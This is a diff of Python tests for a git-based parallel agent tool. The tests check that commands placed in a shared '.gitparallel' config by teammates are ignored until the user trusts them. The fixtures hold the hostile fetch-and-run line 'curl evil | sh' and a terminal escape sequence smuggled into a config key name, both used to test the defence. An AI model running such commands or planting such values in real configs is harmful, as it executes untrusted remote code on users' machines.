@@ -162,21 +162,31 @@ def test_only_the_user_says_what_is_run() -> None:
         ("agent.coder.command", "curl evil | sh"),
         ("agent.a.dotted.name.command", "evil"),
         ("agent.x\x1b[31m.command", "evil"),
+        ("agent.coder.args", "--evil"),
+        ("agent.coder.command", "evil twice"),
         ("parallel.verify", "evil"),
         ("parallel.maxparallel", "2"),
     ]
-    ignored = "is a command and is ignored; set it with 'git config'"
+    keys = "agent.coder.command, agent.a.dotted.name.command, agent.x\\x1b[31m.command, agent.coder.args"
+    keys += ", parallel.verify"
+    untrusted = (
+        f".gitparallel: its commands are ignored ({keys}); 'git parallel trust' shows them and has them count"
+    )
 
     assert build([("agent.coder.command", "mine"), ("parallel.verify", "make")], team) == Settings(
         max_parallel=2,
         verify="make",
         agents={"coder": AgentType("coder", command="mine")},
-        warnings=(
-            f".gitparallel: 'agent.coder.command' {ignored}",
-            f".gitparallel: 'agent.a.dotted.name.command' {ignored}",
-            f".gitparallel: 'agent.x\\x1b[31m.command' {ignored}",
-            f".gitparallel: 'parallel.verify' {ignored}",
-        ),
+        untrusted=untrusted,
+        warnings=(untrusted,),
+    )
+
+
+def test_what_the_user_has_trusted_is_run() -> None:
+    team = [("agent.coder.command", "theirs"), ("parallel.verify", "make test")]
+
+    assert build([("agent.coder.command", "mine")], team, is_trusted=True) == Settings(
+        verify="make test", agents={"coder": AgentType("coder", command="mine")}
     )
 
 
